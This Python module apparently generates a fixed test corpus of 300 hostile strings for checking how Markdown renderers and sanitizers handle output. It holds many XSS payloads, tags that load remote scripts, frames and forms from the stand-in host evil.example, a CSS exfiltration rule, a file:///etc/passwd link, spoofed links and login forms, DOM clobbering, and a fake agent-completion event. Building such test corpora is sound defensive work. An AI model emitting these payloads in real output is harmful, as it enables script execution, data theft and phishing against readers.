"""300 things that a model might be made to say by whoever wants to harm its reader.

Each is an attack that has worked somewhere: on a Markdown renderer, on a sanitizer, on a template,
or by mere display. They are the same 300 on every run. Anything that loaded would load from
``evil.example`` or open a dialog.
"""

from collections.abc import Iterator

EVIL = "https://evil.example"
WANTED = 300

# Forms of an address that is to be opened or loaded.
SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java&#10;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;vascript&colon;alert(1)",
    "javascript&colon;alert(1)",
    "\x01javascript:alert(1)",
    " javascript:alert(1)",
    "javascript://example.org/%0aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    "filesystem:https://evil.example/t/1",
    "ftp://evil.example/x",
    "ws://evil.example/x",
    "view-source:https://evil.example",
    "intent://evil.example#Intent;scheme=https;end",
    "feed:javascript:alert(1)",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "https:evil.example/x",
    "https://example.org@evil.example/x",
    "https://xn--e1afmkfd.example/x",
    "tel:+1900",
    "sms:+1900?body=x",
    "steam://run/1",
)
LINKS = (
    "[click]({url})",
    "[click](<{url}>)",
    '[click]({url} "title\\" onmouseover=alert(1)")',
    "<{url}>",
    "[click][a]\n\n[a]: {url}",
    "[![x]({url})]({url})",
)
IMAGES = (
    "![x]({url}/i.png)",
    '![x]({url}/i.png "t")',
    "![x](<{url}/i.png>)",
    "![x][i]\n\n[i]: {url}/i.png",
    "![i]\n\n[i]: {url}/i.png",
    "[![x]({url}/i.png)]({url})",
    '<img src="{url}/i.png">',
    "<img/src={url}/i.png>",
    "<IMG SRC={url}/i.png onerror=alert(1)>",
    "<img srcset='{url}/i.png 2x'>",
    "<picture><source srcset={url}/i.webp><img src={url}/i.png></picture>",
    "<image href={url}/i.png>",
    "<svg><image href='{url}/i.svg'/></svg>",
    "<svg><feImage href='{url}/i.svg'/></svg>",
    "<svg><use href='{url}/i.svg#a'/></svg>",
    "<input type=image src={url}/i.png>",
    "<video poster={url}/i.png src={url}/v.mp4 autoplay></video>",
    "<audio src={url}/a.mp3 autoplay></audio>",
    "<body background={url}/i.png>",
    "<table background={url}/i.png><tr><td>x</table>",
    "| a |\n|---|\n| ![x]({url}/i.png) |",
    "- [ ] ![x]({url}/i.png)",
    "> ![x]({url}/i.png)",
    "# ![x]({url}/i.png)",
    "**![x]({url}/i.png)**",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](blob:{url}/1)",
    "![x](//evil.example/i.png)",
    "![`code`]({url}/i.png)",
    "![a ![b]({url}/b.png)]({url}/a.png)",
)
LOADING = (
    "<link rel=stylesheet href={url}/s.css>",
    "<link rel=preload as=image href={url}/i.png>",
    "<link rel=prefetch href={url}/p>",
    "<link rel=dns-prefetch href={url}>",
    "<link rel=preconnect href={url}>",
    "<link rel=modulepreload href={url}/m.js>",
    "<link rel=icon href={url}/i.ico>",
    "<link rel=manifest href={url}/m.json>",
    "<style>@import '{url}/s.css';</style>",
    "<style>body{{background:url({url}/i.png)}}</style>",
    "<style>@font-face{{font-family:x;src:url({url}/f)}}*{{font-family:x}}</style>",
    "<style>input[value^=a]{{background:url({url}/a)}}</style>",
    "<p style='background:url({url}/i.png)'>x</p>",
    "<p style='position:fixed;inset:0;z-index:9999;background:red'>over everything</p>",
    "<script src={url}/x.js></script>",
    "<script type=module>import '{url}/x.js'</script>",
    '<script type=importmap>{{"imports":{{"x":"{url}/x.js"}}}}</script>',
    '<script type=speculationrules>{{"prefetch":[{{"urls":["{url}"]}}]}}</script>',
    "<iframe src={url}></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src={url}></frameset>",
    "<object data={url}/o></object>",
    "<embed src={url}/e>",
    "<applet code={url}/a></applet>",
    "<portal src={url}></portal>",
    "<base href={url}/>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "<form action={url} id=f><input name=a><button>Send</button></form>",
    "<button form=f formaction={url}>Send</button>",
    "<a href={url} ping={url}/ping>x</a>",
    "<video><track src={url}/t.vtt default></video>",
    "<html manifest={url}/m>",
    "<fencedframe></fencedframe>",
)
SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "</script><script>alert(1)</script>",
    "<script\n>\nalert(1)\n</script\n>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;alert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<!--<script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html [<!ENTITY x 'y'>]>&x;",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><set attributeName=href to='javascript:alert(1)'></svg>",
    "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>",
    "<svg/onload=alert(1)>",
)
HANDLERS = (
    "<{tag} {event}=alert(1)>x</{tag}>",
    "<{tag} {event}='alert(1)' autofocus tabindex=1>x</{tag}>",
)
TAGS = (
    "img src=x",
    "body",
    "details open",
    "input autofocus",
    "marquee",
    "video src=x",
    "div",
    "a",
)
EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onpointerenter", "onanimationstart")
TEMPLATES = (
    "{{constructor.constructor('alert(1)')()}}",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% debug %} [[7*7]]",
    "${alert(1)}",
    "`${alert(1)}`",
    "<div ng-app>{{$on.constructor('alert(1)')()}}</div>",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>",
    "<x-on:click=alert(1)>",
    "<div x-data x-init='alert(1)'></div>",
    "<div hx-get='https://evil.example' hx-trigger=load></div>",
    "<div data-on-load='alert(1)'></div>",
    '{"__html": "<img src=x onerror=alert(1)>"}',
    '{"type": "img", "props": {"src": "https://evil.example/i.png"}}',
    "__proto__[innerHTML]=<img src=x onerror=alert(1)>",
    "[__proto__]: https://evil.example\n\n[__proto__]",
    "[constructor]\n\n[toString][hasOwnProperty]",
    "| __proto__ |\n|---|\n| constructor |",
    "```__proto__\nx\n```",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    "```<script>alert(1)</script>\nx\n```",
    "~~~html onload=alert(1)\n<b>x</b>\n~~~",
)
ODD = (
    "```\nnever closed <script>alert(1)</script>",
    "````\n```\n<img src=https://evil.example/i.png>\n```",
    "~~~\nnever closed",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "``` `` ` `` ```",
    "[" * 500,
    "![" * 300,
    "*" * 2000,
    "_*" * 800 + "x",
    "> " * 200 + "deep",
    "- " * 60 + "deep",
    "\n".join("  " * depth + "- item" for depth in range(50)),
    "[a](" * 300,
    "<" * 1000,
    "&" * 1000,
    "<a " * 300,
    "|" * 1000 + "\n" + "|-" * 500,
    "\n".join("|a|b|" for _ in range(3)) + "\n|--|",
    "x" * 20_000,
    "\N{FAMILY}\N{ZERO WIDTH JOINER}" * 400,
    "a\N{COMBINING GRAVE ACCENT}" + "\N{COMBINING GRAVE ACCENT}" * 500,
    "\N{RIGHT-TO-LEFT OVERRIDE}gnp.exe\N{POP DIRECTIONAL FORMATTING} looks like an image",
    "\N{RIGHT-TO-LEFT ISOLATE}[click](https://evil.example)\N{FIRST STRONG ISOLATE}",
    "[https://bank.example](https://evil.example)",
    "[bank.example\N{RIGHT-TO-LEFT OVERRIDE}](https://evil.example/moc.knab)",
    "https://evil.example/\N{FULLWIDTH SOLIDUS}bank.example",
    "https://b\N{CYRILLIC SMALL LETTER A}nk.example",
    "\N{ZERO WIDTH SPACE}java\N{ZERO WIDTH SPACE}script:alert(1)",
    "\N{OBJECT REPLACEMENT CHARACTER}\N{REPLACEMENT CHARACTER}\x07\x1b[31mred\x1b[0m\x7f",
    "\N{LINE SEPARATOR}<script>alert(1)</script>\N{PARAGRAPH SEPARATOR}",
    "www.evil.example http://evil.example mailto:a@evil.example a@evil.example",
    '<https://evil.example/?q="onmouseover=alert(1)>',
    "[x](https://evil.example/)" * 200,
    "[x]: https://evil.example/ 'a\n\nb'\n[x]",
    "[^1]\n\n[^1]: <img src=https://evil.example/i.png>",
    "# <script>alert(1)</script>\n===\n---",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "1. <b>one\n2. </b><i>two",
    "</div></main></body></html><h1>Signed out</h1><form>Password: <input type=password></form>",
    "<dialog open>Your key has expired</dialog>",
    "<div popover id=p>x</div><button popovertarget=p>y</button>",
    "<a id=sessionStorage><a id=localStorage name=getItem>clobbered",
    "<form id=document><input name=cookie></form><img name=body>",
    "<custom-element is=evil></custom-element>",
    "---\n---\ntitle: <script>alert(1)</script>\n---",
    "$$\\href{javascript:alert(1)}{x}$$ \\(\\url{https://evil.example}\\)",
    "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]; click A 'javascript:alert(1)'\n```",
    "event: reset\ndata: {}\n\nid: 99999999\n\n",
    '{"type": "agent.status", "payload": {"status": "completed"}}',
)


def _all() -> Iterator[str]:
    yield from SCRIPTS
    for form in (*IMAGES, *LOADING):
        yield form.format(url=EVIL)
    for place, url in enumerate(SCHEMES):
        for form in (LINKS[place % len(LINKS)], LINKS[(place + 1) % len(LINKS)]):
            yield form.format(url=url)
        if place % 2:
            yield f'<a href="{url}" target=_top>x</a>'
    for place, tag in enumerate(TAGS):
        for event in EVENTS:
            name = tag.partition(" ")[0]
            form = HANDLERS[place % len(HANDLERS)]
            yield form.replace("</{tag}>", f"</{name}>").format(tag=tag, event=event)
    yield from TEMPLATES
    yield from ODD


def _nested(texts: list[str]) -> Iterator[str]:
    """The short ones again, inside of something else."""
    frames = ("> - {}", "1. **{}**", "| {} |\n|---|", "## {}", "[{}](https://evil.example)", "*{}")
    short = [text for text in texts if len(text) < 80 and "\n" not in text]
    for place, text in enumerate(short):
        yield frames[place % len(frames)].replace("{}", text)


def _corpus() -> tuple[str, ...]:
    texts = list(dict.fromkeys(_all()))
    more = _nested(texts)
    while len(texts) < WANTED:
        texts.append(next(more))
    return tuple(texts[:WANTED])


CORPUS = _corpus()
